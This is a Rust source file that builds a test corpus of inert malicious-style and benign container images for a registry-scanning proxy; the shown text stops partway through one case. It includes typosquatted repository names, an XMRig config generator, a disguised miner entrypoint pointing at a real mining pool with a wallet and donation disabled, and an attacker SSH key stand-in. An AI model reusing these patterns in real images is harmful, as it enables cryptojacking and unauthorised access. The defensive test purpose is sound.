//! The detection corpus: malicious-style images and the benign look-alikes they must not be
//! confused with, built from INERT stand-ins (files that carry the strings, configs and structure
//! of miners, droppers and rootkits, never working code; nothing is downloaded or run).
//!
//! Stand-ins: an "ELF" is a 64-byte ELF header, pseudo-random bytes for code and the real
//! program's strings as data; it cannot execute. Wallets are made-up Monero addresses with a
//! correct Keccak checksum (see [`monero_address`]). IP addresses are from the documentation
//! ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24). Scenario numbers (§8 #n) refer to
//! `shared/research/indicators.md`.
//!
//! Every case has a repository as pushed to the upstream (official-style names under `library/`),
//! the outcome a pull through portcullis should have, and one line saying what it is.

use super::image::{Compression, Image, Layer};
use serde_json::{json, Value};
use sha2::Digest as _;
use tiny_keccak::Hasher as _;

/// What a pull through portcullis should do.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Expect {
    Block,
    Allow,
}

/// One corpus image.
#[derive(Clone)]
pub struct Case {
    /// The repository as pushed upstream (`library/nginx`, `bitnami/redis`).
    pub repo: &'static str,
    pub tag: &'static str,
    pub expect: Expect,
    pub what: &'static str,
    pub image: Image,
}

impl Case {
    fn new(repo: &'static str, expect: Expect, what: &'static str, image: Image) -> Case {
        Case {
            repo,
            tag: "latest",
            expect,
            what,
            image,
        }
    }

    fn tag(mut self, tag: &'static str) -> Case {
        self.tag = tag;
        self
    }

    /// The name a user pulls: official images without `library/`.
    pub fn pull_name(&self) -> String {
        let name = self.repo.strip_prefix("library/").unwrap_or(self.repo);
        format!("{name}:{}", self.tag)
    }
}

// ---------------------------------------------------------------------------------------------
// Stand-in builders

/// Monero's base58 alphabet.
const B58: &[u8; 58] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
/// Characters that encode a block of n bytes, n in 0..=8.
const B58_SIZES: [usize; 9] = [0, 2, 3, 5, 6, 7, 9, 10, 11];

/// Monero's base58: 8-byte blocks, each encoded to a fixed number of characters.
fn monero_base58(data: &[u8]) -> String {
    let mut out = String::new();
    for block in data.chunks(8) {
        let mut value = block.iter().fold(0u64, |v, &b| (v << 8) | u64::from(b));
        let mut digits = vec![B58[0]; B58_SIZES[block.len()]];
        for d in digits.iter_mut().rev() {
            *d = B58[(value % 58) as usize];
            value /= 58;
        }
        out.push_str(std::str::from_utf8(&digits).unwrap());
    }
    out
}

/// Network bytes of mainnet addresses.
pub const STANDARD: u8 = 18;
pub const INTEGRATED: u8 = 19;
pub const SUBADDRESS: u8 = 42;

/// A made-up Monero mainnet address (`STANDARD` → `4…`, 95 characters; `SUBADDRESS` → `8…`;
/// `INTEGRATED` → 106 characters): keys derived from `seed`, checksum the first 4 bytes of the
/// original Keccak-256, so it validates like a real one but belongs to nobody.
pub fn monero_address(network_byte: u8, seed: &str) -> String {
    let key = |part: &str| sha2::Sha256::digest(format!("{seed}/{part}").as_bytes());
    let mut data = vec![network_byte];
    data.extend_from_slice(&key("spend"));
    data.extend_from_slice(&key("view"));
    if network_byte == INTEGRATED {
        data.extend_from_slice(&key("payment-id")[..8]);
    }
    let mut hash = [0u8; 32];
    let mut k = tiny_keccak::Keccak::v256();
    k.update(&data);
    k.finalize(&mut hash);
    data.extend_from_slice(&hash[..4]);
    monero_base58(&data)
}

/// Deterministic pseudo-random bytes (xorshift), incompressible like machine code or packed data.
fn noise(seed: u64, len: usize) -> Vec<u8> {
    let mut x = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    let mut out = Vec::with_capacity(len + 8);
    while out.len() < len {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        out.extend_from_slice(&x.to_le_bytes());
    }
    out.truncate(len);
    out
}

/// An inert ELF64 stand-in: a valid header (x86-64, `e_type` 2 = executable, 3 = shared object),
/// `code` bytes of noise, then `strings` as NUL-terminated data, like `.rodata`. `shnum` 0 is what
/// packers leave; real unpacked binaries have a few dozen sections.
pub fn elf(e_type: u16, shnum: u16, seed: u64, code: usize, strings: &[&str]) -> Vec<u8> {
    let mut h = vec![0u8; 64];
    h[..4].copy_from_slice(b"\x7fELF");
    h[4] = 2; // ELFCLASS64
    h[5] = 1; // little-endian
    h[6] = 1; // EV_CURRENT
    h[16..18].copy_from_slice(&e_type.to_le_bytes());
    h[18..20].copy_from_slice(&62u16.to_le_bytes()); // EM_X86_64
    h[20..24].copy_from_slice(&1u32.to_le_bytes());
    h[24..32].copy_from_slice(&0x40_1000u64.to_le_bytes()); // e_entry
    h[52..54].copy_from_slice(&64u16.to_le_bytes()); // e_ehsize
    h[54..56].copy_from_slice(&56u16.to_le_bytes()); // e_phentsize
    h[58..60].copy_from_slice(&64u16.to_le_bytes()); // e_shentsize
    h[60..62].copy_from_slice(&shnum.to_le_bytes());
    h[62..64].copy_from_slice(&shnum.saturating_sub(1).to_le_bytes()); // e_shstrndx
    h.extend(noise(seed, code));
    for s in strings {
        h.extend_from_slice(s.as_bytes());
        h.push(0);
    }
    let shoff = h.len() as u64;
    h[40..48].copy_from_slice(&shoff.to_le_bytes());
    h
}

/// Strings an XMRig build carries: those signature-base (`XMRIG_Monero_Miner`,
/// `PUA_LNX_XMRIG_CryptoMiner`) and malcontent (`danger_crypto_miner`) quote, plus help and log
/// lines in XMRig's style.
const XMRIG_STRINGS: &[&str] = &[
    "XMRig/%s libuv/%s%s",
    " * ABOUT        XMRig/6.21.0 gcc/9.3.0 (built for Linux x86-64, 64 bit)",
    "* THREADS:      %d, %s, aes=%d, hf=%zu, %sdonate=%d%%",
    "'h' hashrate, 'p' pause, 'r' resume, 'q' shutdown",
    "  -o, --url=URL                 URL of mining server",
    "  -u, --user=USERNAME           username for mining server",
    "  -p, --pass=PASSWORD           password for mining server",
    "      --donate-level=N          donate level, default 1%% (1 minute in 100 minutes)",
    "      --cpu-affinity=N          set process affinity to CPU core(s), mask 0x3 for cores 0 and 1",
    "      --randomx-1gb-pages       use 1GB hugepages for RandomX dataset (Linux only)",
    "stratum+tcp://",
    "stratum+ssl://",
    "donate.v2.xmrig.com",
    "donate.ssl.xmrig.com",
    "rx/0",
    "cn/r",
    "randomx",
    "mining.subscribe",
    "mining.submit",
    "use pool %s:%d %s",
    "new job from %s:%d diff %llu algo %s height %llu",
    "huge pages %s%3.0f%% %u/%u",
];

/// An XMRig stand-in (unpacked: with section headers).
pub fn xmrig_elf(seed: u64) -> Vec<u8> {
    elf(2, 31, seed, 6000, XMRIG_STRINGS)
}

/// An XMRig JSON config (the upstream layout) mining to `url` as `user`.
pub fn xmrig_config(url: &str, user: &str) -> String {
    serde_json::to_string_pretty(&json!({
        "api": {"id": null, "worker-id": null},
        "http": {"enabled": false, "host": "127.0.0.1", "port": 0},
        "autosave": true,
        "background": true,
        "colors": false,
        "randomx": {"init": -1, "mode": "auto", "1gb-pages": true, "rdmsr": true, "wrmsr": true, "numa": true},
        "cpu": {"enabled": true, "huge-pages": true, "hw-aes": null, "priority": null, "max-threads-hint": 100, "asm": true},
        "opencl": false,
        "cuda": false,
        "donate-level": 0,
        "donate-over-proxy": 0,
        "log-file": null,
        "pools": [{
            "algo": "rx/0", "coin": "monero", "url": url, "user": user, "pass": "x",
            "rig-id": null, "nicehash": false, "keepalive": true, "enabled": true, "tls": true,
            "tls-fingerprint": null, "daemon": false, "socks5": null, "self-select": null
        }],
        "print-time": 60,
        "retries": 5,
        "retry-pause": 5,
        "syslog": false,
        "user-agent": null,
        "watch": true
    }))
    .unwrap()
}

/// A layer of 64 KiB of incompressible data (a library, an asset), so layers are not all tiny.
fn filler(path: &str, seed: u64) -> Layer {
    Layer::new(Compression::Gzip).random_file(path, 64 << 10, seed)
}

/// Config fields [`Image`] has no builder for.
trait ImageExt {
    fn cmd(self, cmd: &[&str]) -> Image;
    fn no_cmd(self) -> Image;
    fn history(self, steps: &[&str]) -> Image;
    fn label(self, key: &str, value: &str) -> Image;
}

impl ImageExt for Image {
    fn cmd(mut self, cmd: &[&str]) -> Image {
        self.cmd = Some(cmd.iter().map(|s| s.to_string()).collect());
        self
    }

    fn no_cmd(mut self) -> Image {
        self.cmd = None;
        self
    }

    /// `created_by` of each step (one per layer, then empty layers).
    fn history(mut self, steps: &[&str]) -> Image {
        let layers = self.layers.len();
        self.history = steps
            .iter()
            .enumerate()
            .map(|(i, s)| {
                if i < layers {
                    json!({"created": "2024-05-02T10:00:00Z", "created_by": s})
                } else {
                    json!({"created": "2024-05-02T10:00:00Z", "created_by": s, "empty_layer": true})
                }
            })
            .collect();
        self
    }

    fn label(mut self, key: &str, value: &str) -> Image {
        if !self.labels.is_object() {
            self.labels = Value::Object(Default::default());
        }
        self.labels[key] = Value::String(value.into());
        self
    }
}

// ---------------------------------------------------------------------------------------------
// Base layers (shared between images, as real base layers are)

/// An Alpine-like root file system.
fn alpine_base() -> Layer {
    Layer::new(Compression::Gzip)
        .file(
            "etc/os-release",
            "NAME=\"Alpine Linux\"\nID=alpine\nVERSION_ID=3.19.1\nPRETTY_NAME=\"Alpine Linux v3.19\"\nHOME_URL=\"https://alpinelinux.org/\"\nBUG_REPORT_URL=\"https://gitlab.alpinelinux.org/alpine/aports/-/issues\"\n",
        )
        .file("etc/alpine-release", "3.19.1\n")
        .file(
            "etc/apk/repositories",
            "https://dl-cdn.alpinelinux.org/alpine/v3.19/main\nhttps://dl-cdn.alpinelinux.org/alpine/v3.19/community\n",
        )
        .file(
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/ash\nbin:x:1:1:bin:/bin:/sbin/nologin\ndaemon:x:2:2:daemon:/sbin:/sbin/nologin\nnobody:x:65534:65534:nobody:/:/sbin/nologin\n",
        )
        .file(
            "etc/crontabs/root",
            "# do daily/weekly/monthly maintenance\n# min\thour\tday\tmonth\tweekday\tcommand\n*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min\n0\t*\t*\t*\t*\trun-parts /etc/periodic/hourly\n0\t2\t*\t*\t*\trun-parts /etc/periodic/daily\n0\t3\t*\t*\t6\trun-parts /etc/periodic/weekly\n0\t5\t1\t*\t*\trun-parts /etc/periodic/monthly\n",
        )
        .file(
            "etc/profile",
            "export PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nexport PAGER=less\numask 022\nfor script in /etc/profile.d/*.sh ; do\n\tif [ -r \"$script\" ] ; then\n\t\t. \"$script\"\n\tfi\ndone\nunset script\n",
        )
        .exec(
            "bin/busybox",
            elf(3, 27, 1, 20_000, &[
                "BusyBox v1.36.1 (2023-11-07 18:53:09 UTC) multi-call binary.",
                "Usage: wget [-cqS] [--spider] [-O FILE] [-o LOGFILE] [--header STR]",
                "Usage: crond -fbS -l N -d N -L LOGFILE -c DIR",
                "/etc/crontabs",
                "/var/spool/cron/crontabs",
                "base64 [-d] [-w COL] [FILE]",
            ]),
        )
        .exec(
            "lib/ld-musl-x86_64.so.1",
            elf(3, 19, 2, 12_000, &["/etc/ld-musl-x86_64.path", "LD_PRELOAD", "LD_LIBRARY_PATH"]),
        )
}

/// A Debian-like root file system: the stock cron jobs, the dynamic linker (which names
/// /etc/ld.so.preload), root's shell files.
fn debian_base(os_release: &str, seed: u64) -> Layer {
    Layer::new(Compression::Gzip)
        .file("etc/os-release", os_release)
        .file("etc/debian_version", "12.5\n")
        .exec("etc/cron.daily/apt-compat", APT_COMPAT)
        .exec(
            "etc/cron.daily/dpkg",
            "#!/bin/sh\n\n# Skip if systemd is running.\nif [ -d /run/systemd/system ]; then\n    exit 0\nfi\n\n/usr/libexec/dpkg/dpkg-db-backup\n",
        )
        .file("etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n\n")
        .file(
            "etc/ld.so.conf.d/x86_64-linux-gnu.conf",
            "# Multiarch support\n/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n",
        )
        .exec(
            "lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
            elf(3, 23, seed, 16_000, &[
                "/etc/ld.so.preload",
                "/etc/ld.so.cache",
                "LD_PRELOAD",
                "ERROR: ld.so: object '%s' from %s cannot be preloaded (%s): ignored.",
                "GLIBC_PRIVATE",
            ]),
        )
        .exec(
            "bin/bash",
            elf(3, 29, seed + 1, 24_000, &[
                "GNU bash, version %s-(%s)",
                "HISTFILE",
                "history [-c] [-d offset] [n] or history -anrw [filename] or history -ps arg [arg...]",
                "/etc/bash.bashrc",
            ]),
        )
        .file("root/.bashrc", ROOT_BASHRC)
        .file(
            "root/.profile",
            "# ~/.profile: executed by Bourne-compatible login shells.\n\nif [ \"$BASH\" ]; then\n  if [ -f ~/.bashrc ]; then\n    . ~/.bashrc\n  fi\nfi\n\nmesg n 2> /dev/null || true\n",
        )
        .file(
            "etc/apt/sources.list.d/debian.sources",
            "Types: deb\nURIs: http://deb.debian.org/debian\nSuites: bookworm bookworm-updates\nComponents: main\nSigned-By: /usr/share/keyrings/debian-archive-keyring.gpg\n",
        )
}

const DEBIAN_OS_RELEASE: &str = "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\nVERSION=\"12 (bookworm)\"\nVERSION_CODENAME=bookworm\nID=debian\nHOME_URL=\"https://www.debian.org/\"\n";
const UBUNTU_OS_RELEASE: &str = "PRETTY_NAME=\"Ubuntu 22.04.4 LTS\"\nNAME=\"Ubuntu\"\nVERSION_ID=\"22.04\"\nVERSION=\"22.04.4 LTS (Jammy Jellyfish)\"\nVERSION_CODENAME=jammy\nID=ubuntu\nID_LIKE=debian\nHOME_URL=\"https://www.ubuntu.com/\"\n";

/// Debian's /etc/cron.daily/apt-compat (apt 2.6).
const APT_COMPAT: &str = r#"#!/bin/sh

set -e

# Systemd systems use a systemd timer unit which is preferable to
# run. We want to randomize the apt update and unattended-upgrade
# runs as much as possible to avoid hitting the mirrors all at the
# same time. The systemd time is better at this than the fixed
# cron.daily time
if [ -d /run/systemd/system ]; then
    exit 0
fi

check_power()
{
    # laptop check, on_ac_power returns:
    #       0 (true)    System is on main power
    #       1 (false)   System is not on main power
    #       255 (false) Power status could not be determined
    # Desktop systems always return 255 it seems
    if command -v on_ac_power >/dev/null; then
        if on_ac_power; then
            :
        elif [ $? -eq 1 ]; then
            return 1
        fi
    fi
    return 0
}

# sleep for a random interval of time (default 30min)
# (some code taken from cron-apt, thanks)
random_sleep()
{
    RandomSleep=1800
    eval $(apt-config shell RandomSleep APT::Periodic::RandomSleep)
    if [ $RandomSleep -eq 0 ]; then
	return
    fi
    if [ -z "$RANDOM" ] ; then
        # A fix for shells that do not have this bash feature.
	RANDOM=$(( $(dd if=/dev/urandom bs=2 count=1 2> /dev/null | cksum | cut -d' ' -f1) % 32767 ))
    fi
    TIME=$(($RANDOM % $RandomSleep))
    sleep $TIME
}

# delay the job execution by a random amount of time
random_sleep

# ensure we don't do this on battery
check_power || exit 0

# run daily job
exec /usr/lib/apt/apt.systemd.daily
"#;

/// Debian's /root/.bashrc (skeleton).
const ROOT_BASHRC: &str = r#"# ~/.bashrc: executed by bash(1) for non-login shells.

# Note: PS1 and umask are already set in /etc/profile. You should not
# need this unless you want different defaults for root.
# PS1='${debian_chroot:+($debian_chroot)}\h:\w\$ '
# umask 022

# You may uncomment the following lines if you want `ls' to be colorized:
# export LS_OPTIONS='--color=auto'
# eval "$(dircolors)"
# alias ls='ls $LS_OPTIONS'
# alias ll='ls $LS_OPTIONS -l'
# alias l='ls $LS_OPTIONS -lA'
#
# Some more alias to avoid making mistakes:
# alias rm='rm -i'
# alias cp='cp -i'
# alias mv='mv -i'
"#;

// ---------------------------------------------------------------------------------------------
// Benign content, also reused (clean) under typosquatted names

/// nginx as the official image ships it (Debian base, nginx.org package files).
fn nginx() -> Image {
    Image::new()
        .layer(debian_base(DEBIAN_OS_RELEASE, 10))
        .layer(
            Layer::new(Compression::Gzip)
                .exec(
                    "usr/sbin/nginx",
                    elf(3, 29, 11, 30_000, &[
                        "nginx version: nginx/1.25.4",
                        "/etc/nginx/nginx.conf",
                        "worker_processes",
                    ]),
                )
                .file(
                    "etc/nginx/nginx.conf",
                    "user  nginx;\nworker_processes  auto;\n\nerror_log  /var/log/nginx/error.log notice;\npid        /var/run/nginx.pid;\n\nevents {\n    worker_connections  1024;\n}\n\nhttp {\n    include       /etc/nginx/mime.types;\n    default_type  application/octet-stream;\n    sendfile        on;\n    keepalive_timeout  65;\n    include /etc/nginx/conf.d/*.conf;\n}\n",
                )
                .file(
                    "etc/nginx/conf.d/default.conf",
                    "server {\n    listen       80;\n    listen  [::]:80;\n    server_name  localhost;\n    location / {\n        root   /usr/share/nginx/html;\n        index  index.html index.htm;\n    }\n}\n",
                )
                .file("lib/systemd/system/nginx.service", NGINX_SERVICE)
                .file(
                    "lib/systemd/system/nginx-debug.service",
                    NGINX_SERVICE.replace("/usr/sbin/nginx -c", "/usr/sbin/nginx-debug -c"),
                )
                .file(
                    "etc/logrotate.d/nginx",
                    "/var/log/nginx/*.log {\n        daily\n        missingok\n        rotate 52\n        compress\n        delaycompress\n        notifempty\n        create 640 nginx adm\n        sharedscripts\n        postrotate\n                if [ -f /var/run/nginx.pid ]; then\n                        kill -USR1 `cat /var/run/nginx.pid`\n                fi\n        endscript\n}\n",
                )
                .exec("docker-entrypoint.sh", NGINX_ENTRYPOINT)
                .exec(
                    "docker-entrypoint.d/10-listen-on-ipv6-by-default.sh",
                    "#!/bin/sh\n# vim:sw=4:ts=4:et\n\nset -e\n\nME=$(basename \"$0\")\nDEFAULT_CONF_FILE=\"etc/nginx/conf.d/default.conf\"\n\n# check if we have ipv6 available\nif [ ! -f \"/proc/net/if_inet6\" ]; then\n    echo >&3 \"$ME: info: ipv6 not available\"\n    exit 0\nfi\n",
                )
                .file(
                    "usr/share/nginx/html/index.html",
                    "<!DOCTYPE html>\n<html>\n<head>\n<title>Welcome to nginx!</title>\n</head>\n<body>\n<h1>Welcome to nginx!</h1>\n</body>\n</html>\n",
                ),
        )
        .entrypoint(&["/docker-entrypoint.sh"])
        .cmd(&["nginx", "-g", "daemon off;"])
        .env("NGINX_VERSION=1.25.4")
        .env("NJS_VERSION=0.8.3")
        .history(&[
            "/bin/sh -c #(nop) ADD file:b86ae1c7ca3586d8feedcd9ff1b2b1e8ab872caf6587618f1da689045a5d7ae4 in / ",
            "RUN /bin/sh -c set -x && groupadd --system --gid 101 nginx && useradd --system --gid nginx --no-create-home --home /nonexistent --comment \"nginx user\" --shell /bin/false --uid 101 nginx && apt-get update && apt-get install --no-install-recommends --no-install-suggests -y gnupg1 ca-certificates && apt-get install --no-install-recommends --no-install-suggests -y nginx=${NGINX_VERSION}-1~bookworm && rm -rf /var/lib/apt/lists/* # buildkit",
            "ENTRYPOINT [\"/docker-entrypoint.sh\"]",
            "STOPSIGNAL SIGQUIT",
            "CMD [\"nginx\" \"-g\" \"daemon off;\"]",
        ])
}

/// nginx.org's systemd unit.
const NGINX_SERVICE: &str = r#"[Unit]
Description=nginx - high performance web server
Documentation=https://nginx.org/en/docs/
After=network-online.target remote-fs.target nss-lookup.target
Wants=network-online.target

[Service]
Type=forking
PIDFile=/var/run/nginx.pid
ExecStart=/usr/sbin/nginx -c ${CONFFILE}
ExecReload=/bin/sh -c "/bin/kill -s HUP $(/bin/cat /var/run/nginx.pid)"
ExecStop=/bin/sh -c "/bin/kill -s TERM $(/bin/cat /var/run/nginx.pid)"
Environment="CONFFILE=/etc/nginx/nginx.conf"

[Install]
WantedBy=multi-user.target
"#;

const NGINX_ENTRYPOINT: &str = r#"#!/bin/sh
# vim:sw=4:ts=4:et

set -e

entrypoint_log() {
    if [ -z "${NGINX_ENTRYPOINT_QUIET_LOGS:-}" ]; then
        echo "$@"
    fi
}

if [ "$1" = "nginx" ] || [ "$1" = "nginx-debug" ]; then
    if /usr/bin/find "/docker-entrypoint.d/" -mindepth 1 -maxdepth 1 -type f -print -quit 2>/dev/null | read v; then
        entrypoint_log "$0: /docker-entrypoint.d/ is not empty, will attempt to perform configuration"

        entrypoint_log "$0: Looking for shell scripts in /docker-entrypoint.d/"
        find "/docker-entrypoint.d/" -follow -type f -print | sort -V | while read -r f; do
            case "$f" in
                *.sh)
                    if [ -x "$f" ]; then
                        entrypoint_log "$0: Launching $f";
                        "$f"
                    else
                        # warn on shell scripts without exec bit
                        entrypoint_log "$0: Ignoring $f, not executable";
                    fi
                    ;;
                *) entrypoint_log "$0: Ignoring $f";;
            esac
        done

        entrypoint_log "$0: Configuration complete; ready for start up"
    else
        entrypoint_log "$0: No files found in /docker-entrypoint.d/, skipping configuration"
    fi
fi

exec "$@"
"#;

/// Ubuntu, as the official image: a root file system and nothing else.
fn ubuntu() -> Image {
    Image::new()
        .layer(debian_base(UBUNTU_OS_RELEASE, 20))
        .cmd(&["/bin/bash"])
        .label("org.opencontainers.image.ref.name", "ubuntu")
        .label("org.opencontainers.image.version", "22.04")
        .history(&[
            "/bin/sh -c #(nop) ADD file:21c2e8d95909bec6f4acdaaa20cba1a6d7a2d2b8c7fbf8b2d7a3a1e5b3b6f3c1 in / ",
            "/bin/sh -c #(nop)  CMD [\"/bin/bash\"]",
        ])
}

/// bitnami/redis: Debian base, /opt/bitnami tree, non-root.
fn bitnami_redis() -> Image {
    Image::new()
        .layer(debian_base(DEBIAN_OS_RELEASE, 30))
        .layer(
            Layer::new(Compression::Gzip)
                .exec(
                    "opt/bitnami/redis/bin/redis-server",
                    elf(3, 30, 31, 30_000, &[
                        "Redis version=%s, bits=%d, commit=%s, modified=%d, pid=%d, just started",
                        "redis-server",
                        "# Server initialized",
                    ]),
                )
                .file(
                    "opt/bitnami/redis/etc/redis-default.conf",
                    "bind 127.0.0.1 -::1\nprotected-mode yes\nport 6379\ntcp-backlog 511\ntimeout 0\ntcp-keepalive 300\ndaemonize no\npidfile /opt/bitnami/redis/tmp/redis.pid\nloglevel notice\nappendonly yes\n",
                )
                .exec(
                    "opt/bitnami/scripts/redis/entrypoint.sh",
                    "#!/bin/bash\n# Copyright Broadcom, Inc. All Rights Reserved.\n# SPDX-License-Identifier: APACHE-2.0\n\n# shellcheck disable=SC1091\n\nset -o errexit\nset -o nounset\nset -o pipefail\n\n# Load libraries\n. /opt/bitnami/scripts/libbitnami.sh\n. /opt/bitnami/scripts/libredis.sh\n\n# Load Redis environment variables\n. /opt/bitnami/scripts/redis-env.sh\n\nprint_welcome_page\n\nif [[ \"$*\" = *\"/opt/bitnami/scripts/redis/run.sh\"* || \"$*\" = *\"/run.sh\"* ]]; then\n    info \"** Starting Redis setup **\"\n    /opt/bitnami/scripts/redis/setup.sh\n    info \"** Redis setup finished! **\"\nfi\n\necho \"\"\nexec \"$@\"\n",
                )
                .exec(
                    "opt/bitnami/scripts/redis/run.sh",
                    "#!/bin/bash\n# Copyright Broadcom, Inc. All Rights Reserved.\n# SPDX-License-Identifier: APACHE-2.0\n\nset -o errexit\nset -o nounset\nset -o pipefail\n\n. /opt/bitnami/scripts/libredis.sh\n. /opt/bitnami/scripts/libos.sh\n\n# Parse CLI flags to pass to the 'redis-server' call\nargs=(\"${REDIS_BASE_DIR}/etc/redis.conf\" \"--daemonize\" \"no\")\n# Add flags specified via the 'REDIS_EXTRA_FLAGS' environment variable\nread -r -a extra_flags <<< \"$REDIS_EXTRA_FLAGS\"\n[[ \"${#extra_flags[@]}\" -gt 0 ]] && args+=(\"${extra_flags[@]}\")\n\ninfo \"** Starting Redis **\"\nif am_i_root; then\n    exec_as_user \"$REDIS_DAEMON_USER\" redis-server \"${args[@]}\"\nelse\n    exec redis-server \"${args[@]}\"\nfi\n",
                )
                .file(
                    "opt/bitnami/redis/.spdx-redis.spdx",
                    "{\"SPDXID\": \"SPDXRef-DOCUMENT\", \"name\": \"redis-7.2.4\", \"packages\": [{\"name\": \"redis\", \"versionInfo\": \"7.2.4\"}]}\n",
                ),
        )
        .entrypoint(&["/opt/bitnami/scripts/redis/entrypoint.sh"])
        .cmd(&["/opt/bitnami/scripts/redis/run.sh"])
        .env("HOME=/")
        .env("OS_ARCH=amd64")
        .env("OS_FLAVOUR=debian-12")
        .env("OS_NAME=linux")
        .env("APP_VERSION=7.2.4")
        .env("BITNAMI_APP_NAME=redis")
        .label("com.vmware.cp.artifact.flavor", "sha256:c50c90cfd9d12b445b011e6ad529f1ad3daea45c26d20b00732fae3cd71f6a83")
        .label("org.opencontainers.image.vendor", "Broadcom, Inc.")
}

/// An Eclipse Temurin JRE (what openjdk look-alikes copy).
fn temurin() -> Image {
    Image::new()
        .layer(debian_base(UBUNTU_OS_RELEASE, 20))
        .layer(
            Layer::new(Compression::Gzip)
                .exec(
                    "opt/java/openjdk/bin/java",
                    elf(2, 28, 41, 12_000, &[
                        "openjdk version \"%s\"",
                        "JAVA_TOOL_OPTIONS",
                        "Usage: java [options] <mainclass> [args...]",
                    ]),
                )
                .file("opt/java/openjdk/release", "IMPLEMENTOR=\"Eclipse Adoptium\"\nJAVA_VERSION=\"21.0.2\"\nJAVA_RUNTIME_VERSION=\"21.0.2+13-LTS\"\n")
                .exec(
                    "__cacert_entrypoint.sh",
                    "#!/usr/bin/env bash\n# Converted to POSIX shell to avoid the need for bash in the image\n\nset -e\n\n# Opt-in is only activated if the environment variable is set\nif [ -n \"$USE_SYSTEM_CA_CERTS\" ]; then\n    # Copy certificates from /certificates to the system truststore\n    if [ -d /certificates ] && [ -n \"$(ls -A /certificates 2>/dev/null)\" ]; then\n        cp -a /certificates/* /usr/local/share/ca-certificates/\n    fi\n    update-ca-certificates\nfi\n\nexec \"$@\"\n",
                ),
        )
        .entrypoint(&["/__cacert_entrypoint.sh"])
        .cmd(&["jshell"])
        .env("JAVA_HOME=/opt/java/openjdk")
        .env("JAVA_VERSION=jdk-21.0.2+13")
        .env("LANG=en_US.UTF-8")
        .history(&[
            "/bin/sh -c #(nop) ADD file:21c2e8d95909bec6f4acdaaa20cba1a6d7a2d2b8c7fbf8b2d7a3a1e5b3b6f3c1 in / ",
            "RUN /bin/sh -c set -eux; ARCH=\"$(dpkg --print-architecture)\"; BINARY_URL='https://github.com/adoptium/temurin21-binaries/releases/download/jdk-21.0.2%2B13/OpenJDK21U-jre_x64_linux_hotspot_21.0.2_13.tar.gz'; wget --progress=dot:giga -O /tmp/openjdk.tar.gz ${BINARY_URL}; echo \"${ESUM} */tmp/openjdk.tar.gz\" | sha256sum -c -; tar --extract --file /tmp/openjdk.tar.gz --directory \"$JAVA_HOME\" --strip-components 1 --no-same-owner; rm -f /tmp/openjdk.tar.gz; # buildkit",
        ])
}

// ---------------------------------------------------------------------------------------------
// The corpus

/// Every case, malicious first.
pub fn corpus() -> Vec<Case> {
    let mut all = malicious();
    all.extend(benign());
    all
}

/// Malicious-style images: each must be refused.
pub fn malicious() -> Vec<Case> {
    use Expect::Block;
    let w1 = monero_address(STANDARD, "corpus-1");
    let w2 = monero_address(STANDARD, "corpus-2");
    let w3 = monero_address(SUBADDRESS, "corpus-3");
    let w4 = monero_address(STANDARD, "corpus-4");
    let w5 = monero_address(INTEGRATED, "corpus-5");
    let w6 = monero_address(STANDARD, "corpus-6");
    let attacker_key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC2mX9mQ1bWzYx0Q7lZ3q6vS8kP0uF4tJ9hR1cN5eD7aG2bV3xW6yK8oL4iM0nP9rT5sU1vQ3wE7zA2fH6jB8dC4gX1kY5lZ9mN3oP7qR2sT6uV0wX4yZ8aB3cD7eF1gH5iJ9kL3mN7oP1qR5sT9uV3wX7yZ1aB5cD9eF3gH7iJ1kL5mN9oP3qR7sT1uV5wX9yZ3aB7cD1eF5gH9iJ3kL7mN1oP5qR9sT3uV7wX1yZ5aB9cD3eF7gH1iJ5kL9mN3oP7qR1sT5uV9wX3yZ7aB1cD5eF9gH3iJ7kL1mN5 root@kali";

    let mut cases = Vec::new();

    // --- Names alone: clean content under a look-alike name.
    cases.push(Case::new(
        "libary/nginx",
        Block,
        "namespace look-alike of `library` (omission), clean nginx content",
        nginx(),
    ));
    cases.push(Case::new(
        "ubuntuu/ubuntu",
        Block,
        "namespace look-alike of an official name (repetition), clean ubuntu content (§8 #1 name)",
        ubuntu(),
    ));
    cases.push(Case::new(
        "someuser/alpine2",
        Block,
        "near miss of an official name under a user namespace (Trend Micro), clean alpine content",
        Image::new().layer(alpine_base()),
    ));
    cases.push(
        Case::new(
            "c43602f9cc95/openjdk",
            Block,
            "official name under a hex namespace with a hex tag (Aqua 2021), clean JRE content",
            temurin(),
        )
        .tag("0da242bd93b7f"),
    );
    cases.push(Case::new(
        "webstack/nginx-official",
        Block,
        "combosquat claiming officialness, clean nginx content",
        nginx(),
    ));
    cases.push(Case::new(
        "bitnarni/redis",
        Block,
        "verified-publisher look-alike (rn for m), clean bitnami redis content",
        bitnami_redis(),
    ));
    cases.push(Case::new(
        "x7kq9zvw2p/jx8qz0k3",
        Block,
        "random-looking namespace and repository (Qualys non-pronounceable names), clean content",
        Image::new()
            .layer(alpine_base())
            .layer(Layer::new(Compression::Gzip).exec(
                "usr/local/bin/app",
                elf(2, 25, 50, 8000, &["Usage: app [--port N]"]),
            )),
    ));

    // --- Miners started from the config.
    cases.push(Case::new(
        "acmeops/sysmon",
        Block,
        "XMRig stand-in renamed /usr/bin/dockerd; pool, wallet and --donate-level=0 on the entrypoint (§8 #1)",
        Image::new()
            .layer(alpine_base())
            .layer(Layer::new(Compression::Gzip).exec("usr/bin/dockerd", xmrig_elf(101)))
            .entrypoint(&[
                "/usr/bin/dockerd",
                "-o",
                "pool.supportxmr.com:3333",
                "-u",
                &w1,
                "--donate-level=0",
            ])
            .no_cmd(),
    ));
    cases.push(Case::new(
        "dataproc/worker",
        Block,
